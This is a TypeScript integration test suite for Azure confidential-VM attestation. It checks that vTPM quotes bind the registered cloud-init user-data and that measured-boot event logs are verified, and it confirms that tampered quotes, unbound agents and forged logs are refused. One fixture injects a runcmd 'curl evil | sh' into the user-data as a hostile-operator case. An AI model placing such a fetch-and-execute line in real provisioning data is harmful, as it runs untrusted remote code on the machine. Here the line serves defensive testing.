// Measured user-data on an Azure CVM, end to end: the real enclaivelet (its Azure user-data reader, its Azure evidence
// provider driving tpm2-tools, attest, provisioning) against a real runtime over HTTPS. The vTPM is a real TPM 2.0
// (swtpm) holding an RSA attestation key at the HCL's handle 0x81000003; a simulated paravisor answers the HCL-report
// read (NV 0x01400001) with a report around a simulated SNP report whose REPORT_DATA is SHA-256 of runtime claims that
// carry that AK and the 64 bytes the agent wrote to NV 0x01400002 — as Azure's paravisor does. The guest cannot choose
// the hardware REPORT_DATA; the user-data is bound by the AK-signed quote's extraData (binding.ts azureQuoteExtraData)
// and Nitride recomputes it with the REGISTERED user-data hash.
// Hostile cases: a runcmd injected into the CustomData (the operator edits the provisioning OVF), an agent that binds
// no user-data, a guest that lies about its hash, and one-bit changes of the quote's extraData signed by the real AK.
// Measured boot over events (azure.measuredBoot): the swtpm's PCRs are extended from an event log laid out as Azure's
// UEFI logs a UKI boot under the customer's db key (test/runtime/attestation/azure-boot-log.ts) — the UKI is a real
// one (systemd-stub + sections, objcopy), its Authenticode digest in PCR 4 and systemd-stub's sections in PCR 11 —
// and the agent sends that log as binary_bios_measurements. The UKI is the kit's Azure disk's (signed, on a real ESP in a
// GPT disk); the workload is registered with the policy the components predict from that disk's manifest and the db
// certificate (predictBootChain, as AzureConfidentialVm's bootChain registers it):
// accepted; refused when registered for another UKI, for another db certificate, and when the log sent does not
// match the quoted PCRs.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHash, randomBytes, X509Certificate, type KeyObject } from "node:crypto";
import { mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { azureQuoteExtraData, reportDataFor } from "../../../runtime/attestation/binding.js";
import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
import { measuredConfig, readUserData } from "../../../runtime/guest/userdata.js";
import { runAgent } from "../../../runtime/guest/agent.js";
import { parseConfig, type EnclaiveletConfig } from "../../../runtime/guest/config.js";
import { memoryLogger } from "../../../runtime/guest/log.js";
import { boundKeyMaterial, newEphemeralKey } from "../../../runtime/guest/attest.js";
import { AZURE_AK_HANDLE, HCL_USERDATA_NV_INDEX, azureProvider } from "../../../runtime/guest/evidence/azure.js";
import { spawnRunner, type CommandRunner } from "../../../runtime/guest/exec.js";
import type { EvidenceProvider } from "../../../runtime/guest/evidence/types.js";
import type { WireEvidence } from "../../../runtime/protocol/evidence.js";
import { parseTpmsAttest } from "../../../runtime/attestation/azure/index.js";
import { SwTpm, haveSwtpm } from "../../support/swtpm.js";
import { persistHclAk, tpmTool } from "../../support/azure-hcl-ak.js";
import { hclReport } from "../attestation/azure-fixtures.js";
import { azureBootLog } from "../attestation/azure-boot-log.js";
import { bootApplicationDigest, ukiMeasurements } from "../../../images/vtpm/index.js";
import { predictBootChain } from "../../../components/common/boot-chain.js";
import { buildUki } from "../../support/uki.js";
import { dbKeyPair, haveDiskTools, writeRuntimeDisk } from "../../support/runtime-disk.js";
import {
  challengeNonce,
  failedChecks,
  postAttest,
  startEnclaiveletStack,
  GOOD_MEASUREMENT,
  type EnclaiveletStack,
} from "./stack.js";

const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");
const run = haveSwtpm() && haveDiskTools();
const DEVICE = "/dev/tpmrm0";

const REGISTERED = renderUserData({
  platform: "azure",
  tee: "snp",
  runtimeUrl: "https://runtime.example:8200",
  runtimeCaSha256: "ab".repeat(32),
  workloadId: "az",
  agent: { kind: "image" },
}).text;
const INJECTED = `${REGISTERED}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;

/** cloud-init-local's copy of the OVF the fabric delivered (what the agent reads on the VM). */
const ovfCopy = (userData: string) =>
  `<ns0:Environment xmlns:ns0="http://schemas.dmtf.org/ovf/environment/1" xmlns:ns1="http://schemas.microsoft.com/windowsazure"><ns1:ProvisioningSection><ns1:Version>1.0</ns1:Version><ns1:LinuxProvisioningConfigurationSet><ns1:ConfigurationSetType>LinuxProvisioningConfiguration</ns1:ConfigurationSetType><ns1:HostName>az</ns1:HostName><ns1:UserName>azureuser</ns1:UserName><ns1:CustomData>${Buffer.from(userData).toString("base64")}</ns1:CustomData></ns1:LinuxProvisioningConfigurationSet></ns1:ProvisioningSection><ns1:PlatformSettingsSection><ns1:Version>1.0</ns1:Version><ns1:PlatformSettings><ns1:ProvisionGuestAgent>false</ns1:ProvisionGuestAgent></ns1:PlatformSettings></ns1:PlatformSettingsSection></ns0:Environment>`;

describe.runIf(run)("Azure CVM: measured user-data bound by the vTPM quote, against a real runtime", () => {
  let stack: EnclaiveletStack;
  let tpm: SwTpm;
  let dir: string;
  let ak: KeyObject;
  /** The boot's event log as the kernel publishes it, and the measured-boot policies registered in the cases. */
  let eventLogPath: string;
  let boot: { uki: Buffer; cert: string; other: string; log: Buffer; manifest: string };

  const tool = (argv: string[]) => tpmTool(tpm)(argv); // tpm is started in beforeAll

  beforeAll(async () => {
    stack = await startEnclaiveletStack();
    tpm = await SwTpm.start();
    dir = await mkdtemp(path.join(tmpdir(), "bk-azure-vtpm-"));
    ak = persistHclAk(tpm, dir);
    // The boot: the kit disk's UKI, verified by the customer's db certificate, measured as Azure's UEFI and systemd-stub do.
    // The kit's Azure disk (manifest + GPT disk, its UKI on the ESP signed by the customer's db key), as
    // `image build --cloud azure --sign-key/--sign-cert` records it (test/support/runtime-disk.ts).
    const db = dbKeyPair(dir, "customer db");
    const kit = writeRuntimeDisk({ role: "workload", userDataSource: "azure", sign: db });
    const uki = await readFile(path.join(kit.dir, "BOOTX64.EFI"));
    const cert = db.cert;
    const other = dbKeyPair(dir, "someone else's db").cert;
    const certDer = Buffer.from(new X509Certificate(await readFile(cert)).raw);
    const log = azureBootLog({
      uki: bootApplicationDigest(uki, "sha256"),
      dbCert: certDer,
      pcr11: ukiMeasurements(uki).flatMap((m) => [Buffer.from(m.name + "\0", "latin1"), m.data]),
    });
    for (const [i, d] of log.extends) tpm.extend(i, d);
    eventLogPath = path.join(dir, "binary_bios_measurements");
    await writeFile(eventLogPath, log.log);
    boot = { uki, cert, other, log: log.log, manifest: kit.manifest };
    await stack.admin("PUT", "nitride/workloads/az", {
      platforms: ["azure-snp"],
      reference_values: { snp_measurements: [GOOD_MEASUREMENT], user_data_sha256: sha256(REGISTERED) },
      policy: { azure: { requireSecureBoot: true } },
      secrets: { kv: ["secret/data/web/db"] },
    });
    // The stack's "workload" role admits snp tokens only; Azure tokens carry platform azure-snp.
    await stack.admin("POST", "auth/jwt/role/azure", {
      role_type: "jwt",
      bound_audiences: ["buckypaper"],
      user_claim: "sub",
      bound_claims: { platform: "azure-snp" },
      token_policies: ["nitride-workload-{{sub}}"],
      token_policies_template_claims: true,
      token_ttl: "10m",
    });
  }, 120_000);
  afterAll(async () => {
    await tpm?.stop();
    await stack?.rt.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  /** The HCL report the paravisor would publish for `userDataHex` (what the guest wrote to NV 0x01400002). */
  async function hcl(userDataHex: string): Promise<Buffer> {
    const jwk = ak.export({ format: "jwk" });
    const json = Buffer.from(
      JSON.stringify({
        keys: [{ kid: "HCLAkPub", key_ops: ["sign"], kty: "RSA", e: jwk.e, n: jwk.n }],
        "vm-configuration": { "console-enabled": false, "secure-boot": true, "tpm-enabled": true },
        "user-data": userDataHex.toUpperCase(),
      }),
    );
    const reportData = Buffer.concat([createHash("sha256").update(json).digest(), Buffer.alloc(32)]);
    const r = await stack.sim.report({ measurement: GOOD_MEASUREMENT, reportData, vmpl: 0 });
    return hclReport(r.report, 2, json, 1);
  }

  /**
   * tpm2-tools against swtpm for everything the vTPM does itself; the paravisor's part (refreshing the HCL report in
   * NV 0x01400001 from NV 0x01400002) simulated: it reads what the guest really wrote into the TPM.
   */
  const paravisor: CommandRunner = {
    async run(argv, opts) {
      const args = argv.map((a) => (a === `device:${DEVICE}` ? tpm.tcti : a));
      if (args[0] === "tpm2_nvread" && args.at(-1) === "0x01400001") {
        const written = path.join(dir, "nv-userdata.bin");
        tool(["tpm2_nvread", "-C", "o", "-s", "64", "-o", written, HCL_USERDATA_NV_INDEX]);
        await writeFile(args[args.indexOf("-o") + 1], await hcl((await readFile(written)).toString("hex")));
        return { code: 0, stdout: Buffer.alloc(0), stderr: Buffer.alloc(0) };
      }
      return spawnRunner.run(args, opts);
    },
  };
  /** The agent's Azure provider; the VCEK chain added as the runtime would fetch it (KDS/THIM are off here). */
  const provider = (): EvidenceProvider => {
    const p = azureProvider({ tpmDevice: DEVICE, runner: paravisor, refreshDelayMs: 1, eventLogPath });
    const pem = (der: Uint8Array) =>
      `-----BEGIN CERTIFICATE-----\n${Buffer.from(der).toString("base64")}\n-----END CERTIFICATE-----\n`;
    return {
      ...p,
      async collect(reportData) {
        const e = (await p.collect(reportData)) as Extract<WireEvidence, { kind: "azure-snp" }>;
        const r = await stack.sim.report({ measurement: GOOD_MEASUREMENT, vmpl: 0 });
        return { ...e, vcek_chain_pem: pem(r.vek) + pem(stack.sim.caCerts.ask) + pem(stack.sim.caCerts.ark) };
      },
    };
  };

  /** The real agent on a VM whose cloud-init-local copy of the OVF carries `userData`. */
  async function agentWith(userData: string, o: { bindUserData?: boolean } = {}) {
    const root = await mkdtemp(path.join(tmpdir(), "bk-azure-root-"));
    const ovf = path.join(dir, "ovf-env.xml");
    try {
      await writeFile(ovf, ovfCopy(userData));
      const measured = measuredConfig(await readUserData("azure", { azureOvfPath: ovf }));
      expect(measured.config.evidence.provider).toBe("azure");
      const cfg: EnclaiveletConfig = parseConfig({
        runtimeUrl: stack.rt.url,
        runtimeCaSha256: stack.caSha256,
        workloadId: measured.config.workloadId,
        root,
        jwtRole: "azure",
        evidence: { provider: "azure", tpmDevice: DEVICE },
        retry: { attempts: 1, initialDelayMs: 1, maxDelayMs: 1 },
        envFiles: [{ path: "/etc/app/env", vars: { DB_PASSWORD: "web/db#password" } }],
      });
      const sent: { user_data_sha256?: string }[] = [];
      const out = await runAgent(cfg, {
        provider: provider(),
        userDataSha256: o.bindUserData === false ? undefined : measured.sha256,
        log: memoryLogger(),
        onAttestRequest: (r) => sent.push(r),
      });
      return { out, files: await readdir(root, { recursive: true }), sent, sha: measured.sha256 };
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  }

  it("the registered user-data → accepted, the secret delivered", async () => {
    const { out, files, sent, sha } = await agentWith(REGISTERED);
    expect(out, out.error).toMatchObject({ ok: true });
    expect(files).toContain(path.join("etc", "app", "env"));
    expect(sha).toBe(sha256(REGISTERED));
    expect(sent[0].user_data_sha256).toBe(sha);
  }, 60_000);

  it("hostile operator: a runcmd injected into the CustomData → refused (nitride.user-data, vtpm.nonce), nothing delivered", async () => {
    const { out, files, sha } = await agentWith(INJECTED);
    expect(sha).toBe(sha256(INJECTED));
    expect(out).toMatchObject({ ok: false, reason: "refused" });
    expect(out.error).toMatch(/nitride\.user-data: user-data SHA-256 [0-9a-f]{16}… differs from the registered/);
    expect(out.error).toMatch(/vtpm\.nonce: TPM quote extraData [0-9a-f]{64} is not the expected nonce/);
    expect(out.error).toMatch(/registered user-data hash/);
    expect(files).toEqual([]);
  }, 60_000);

  it("an agent that binds no user-data (the old Azure agent) → refused, not accepted as unbound", async () => {
    const { out, files } = await agentWith(REGISTERED, { bindUserData: false });
    expect(out).toMatchObject({ ok: false, reason: "refused" });
    expect(out.error).toMatch(/nitride\.user-data: the workload binds its user-data, but the guest did not report/);
    expect(out.error).toMatch(/vtpm\.nonce/);
    expect(files).toEqual([]);
  }, 60_000);

  // Hostile guests speaking the protocol themselves, quoting with the real AK (any code in the guest can).
  async function attestRaw(o: {
    claim?: string;
    bound?: string;
    /** Changes the extraData the AK signs (after the NV write of the correct REPORT_DATA). */
    mutateExtraData?: (x: Buffer) => Buffer;
    /** Changes the signed message after signing. */
    mutateMessage?: (m: Buffer) => Buffer;
  }) {
    const challenge = await challengeNonce(stack, "az");
    const nonce = Buffer.from(challenge, "base64url");
    const eph = newEphemeralKey({ hybrid: false });
    const reportData = reportDataFor(
      nonce,
      boundKeyMaterial(eph),
      o.bound !== undefined ? Buffer.from(o.bound, "hex") : undefined,
    );
    let evidence = (await provider().collect(reportData)) as Extract<WireEvidence, { kind: "azure-snp" }>;
    if (o.mutateExtraData) {
      const q = path.join(dir, "q");
      const extra = o.mutateExtraData(azureQuoteExtraData(reportData));
      tool([
        "tpm2_quote",
        "-c",
        AZURE_AK_HANDLE,
        "-l",
        `sha256:${Array.from({ length: 24 }, (_, i) => i).join(",")}`,
        "-q",
        extra.toString("hex"),
        "-m",
        `${q}.msg`,
        "-s",
        `${q}.sig`,
        "-f",
        "plain",
        "-g",
        "sha256",
      ]);
      const msg = await readFile(`${q}.msg`);
      expect(Buffer.from(parseTpmsAttest(msg).extraData).equals(extra)).toBe(true);
      evidence = {
        ...evidence,
        tpm_quote: {
          ...evidence.tpm_quote,
          message: msg.toString("base64"),
          signature: (await readFile(`${q}.sig`)).toString("base64"),
        },
      };
    }
    if (o.mutateMessage) {
      const msg = o.mutateMessage(Buffer.from(evidence.tpm_quote.message, "base64"));
      evidence = { ...evidence, tpm_quote: { ...evidence.tpm_quote, message: msg.toString("base64") } };
    }
    return postAttest(stack, {
      workload_id: "az",
      nonce: challenge,
      evidence,
      ephemeral_public_key: eph.spkiDer.toString("base64"),
      ...(o.claim !== undefined ? { user_data_sha256: o.claim } : {}),
    });
  }
  const failed = (body: unknown) =>
    failedChecks(body)
      // Nitride's reference-value check also fails whenever a rejected verdict has no claims: leave it out.
      .filter((id) => id !== "nitride.reference-values")
      .sort();
  const REG = sha256(REGISTERED);

  it("control: the registered hash claimed and bound, quoted by the AK → accepted", async () => {
    const r = await attestRaw({ claim: REG, bound: REG });
    expect(r.status, JSON.stringify(failed(r.body))).toBe(200);
  }, 60_000);

  it("hostile: claims the registered hash but bound another user-data → refused (report-data, vtpm.nonce)", async () => {
    const r = await attestRaw({ claim: REG, bound: sha256("other user-data") });
    expect(r.status).toBe(403);
    expect(failed(r.body)).toEqual(["policy.report-data", "vtpm.nonce"]);
  }, 60_000);

  it.each([0, 13, 255])(
    "one bit of the quote's extraData flipped (bit %i), signed by the real AK → refused by vtpm.nonce alone",
    async (bit) => {
      const r = await attestRaw({
        claim: REG,
        bound: REG,
        mutateExtraData: (x) => {
          const y = Buffer.from(x);
          y[bit >> 3] ^= 0x80 >> (bit & 7);
          return y;
        },
      });
      expect(r.status).toBe(403);
      expect(failed(r.body)).toEqual(["vtpm.nonce"]);
    },
    60_000,
  );

  it("the extraData of a correct quote changed after signing → refused (signature and nonce)", async () => {
    // TPMS_ATTEST: magic(4) type(2) qualifiedSigner(2+n) extraData(2+32): flip the last extraData byte's low bit.
    const r = await attestRaw({
      claim: REG,
      bound: REG,
      mutateMessage: (m) => {
        const signerLen = m.readUInt16BE(6);
        const at = 8 + signerLen + 2 + 31;
        const y = Buffer.from(m);
        y[at] ^= 1;
        return y;
      },
    });
    expect(r.status).toBe(403);
    expect(failed(r.body)).toEqual(["vtpm.nonce", "vtpm.quote-signature"]);
  }, 60_000);

  it("the raw nonce as extraData (trustee's convention, no key or user-data binding) → refused", async () => {
    const r = await attestRaw({ claim: REG, bound: REG, mutateExtraData: () => randomBytes(32) });
    expect(r.status).toBe(403);
    expect(failed(r.body)).toEqual(["vtpm.nonce"]);
  }, 60_000);

  // Measured boot over events: the workload re-registered with the policy under test, the same VM (swtpm) attesting.
  async function registerBoot(azure: Record<string, unknown>) {
    await stack.admin("PUT", "nitride/workloads/az", {
      platforms: ["azure-snp"],
      reference_values: { snp_measurements: [GOOD_MEASUREMENT], user_data_sha256: sha256(REGISTERED) },
      policy: { azure: { requireSecureBoot: true, ...azure } },
      secrets: { kv: ["secret/data/web/db"] },
    });
  }
  /** The policy AzureConfidentialVm registers (components/common/boot-chain.ts) for a kit manifest or a UKI file. */
  const predicted = (chain: { manifest?: string; uki?: string }, cert: string) =>
    predictBootChain("test", { ...chain, dbCertificates: [cert] }, "sha256") as Record<string, unknown>;

  describe("measured boot over events (azure.measuredBoot, predicted from the kit's Azure disk and the db certificate)", () => {
    afterAll(() => registerBoot({}));

    it("the predicted policy → accepted: the log replays to the quote, UKI in PCR 4, db authority in PCR 7", async () => {
      const policy = predicted({ manifest: boot.manifest }, boot.cert);
      expect(policy).toMatchObject({
        bootApplications: { required: [bootApplicationDigest(boot.uki, "sha256")] },
        kernelCmdline: { mustContain: expect.arrayContaining([expect.stringMatching(/^bk\.roothash=[0-9a-f]{64}$/)]) },
        secureBoot: {
          enabled: true,
          authorities: [
            createHash("sha256")
              .update(new X509Certificate(await readFile(boot.cert)).raw)
              .digest("hex"),
          ],
        },
      });
      expect(Object.keys(policy.pcrs as object)).toEqual(["11"]);
      await registerBoot({ measuredBoot: policy });
      const { out, files } = await agentWith(REGISTERED);
      expect(out, out.error).toMatchObject({ ok: true });
      expect(files).toContain(path.join("etc", "app", "env"));
      // The same, seen in Nitride's verdict: every boot rule was evaluated and held.
      const r = await attestRaw({ claim: REG, bound: REG });
      expect(r.status, JSON.stringify(failed(r.body))).toBe(200);
    }, 60_000);

    it("registered for another UKI (its own command line) → refused by boot.applications and boot.pcrs", async () => {
      const otherUki = buildUki(await mkdtemp(path.join(dir, "u-")), {
        ".osrel": Buffer.from("ID=kit\n"),
        ".cmdline": Buffer.from(`console=ttyS1 bk.roothash=${"5e".repeat(32)} systemd.import_credentials=no`),
        ".linux": randomBytes(20_000),
      });
      await writeFile(path.join(dir, "other.efi"), otherUki);
      await registerBoot({ measuredBoot: predicted({ uki: path.join(dir, "other.efi") }, boot.cert) });
      const { out, files } = await agentWith(REGISTERED);
      expect(out).toMatchObject({ ok: false, reason: "refused" });
      expect(out.error).toMatch(/boot\.applications/);
      const r = await attestRaw({ claim: REG, bound: REG });
      expect(r.status).toBe(403);
      expect(failed(r.body)).toEqual(["boot.applications", "boot.pcrs"]);
      expect(files).toEqual([]);
    }, 60_000);

    it("registered for another db certificate → refused by boot.secure-boot-authority alone", async () => {
      // The same disk's prediction, with the other certificate as the Secure Boot authority.
      const policy = predicted({ manifest: boot.manifest }, boot.cert);
      const otherSha = createHash("sha256")
        .update(new X509Certificate(await readFile(boot.other)).raw)
        .digest("hex");
      await registerBoot({ measuredBoot: { ...policy, secureBoot: { enabled: true, authorities: [otherSha] } } });
      const { out, files } = await agentWith(REGISTERED);
      expect(out).toMatchObject({ ok: false, reason: "refused" });
      expect(out.error).toMatch(/boot\.secure-boot-authority/);
      const r = await attestRaw({ claim: REG, bound: REG });
      expect(r.status).toBe(403);
      expect(failed(r.body)).toEqual(["boot.secure-boot-authority"]);
      expect(files).toEqual([]);
    }, 60_000);

    it("an event log that does not match the quote (the UKI's event swapped for another UKI's) → refused by tpm.event-log-replay", async () => {
      await registerBoot({ measuredBoot: predicted({ manifest: boot.manifest }, boot.cert) });
      const forged = azureBootLog({
        uki: createHash("sha256").update("another UKI").digest("hex"),
        dbCert: Buffer.from(new X509Certificate(await readFile(boot.cert)).raw),
        pcr11: ukiMeasurements(boot.uki).flatMap((m) => [Buffer.from(m.name + "\0", "latin1"), m.data]),
      });
      await writeFile(eventLogPath, forged.log);
      try {
        const r = await attestRaw({ claim: REG, bound: REG });
        expect(r.status).toBe(403);
        expect(failed(r.body)).toEqual(["boot.event-log", "tpm.event-log-replay"]);
        // No log at all (a kernel without securityfs, or a guest that withholds it) → refused naming it.
        await rm(eventLogPath);
        const n = await attestRaw({ claim: REG, bound: REG });
        expect(n.status).toBe(403);
        expect(failed(n.body)).toEqual(["boot.event-log", "tpm.event-log"]);
      } finally {
        await writeFile(eventLogPath, boot.log);
      }
    }, 60_000);
  });
});
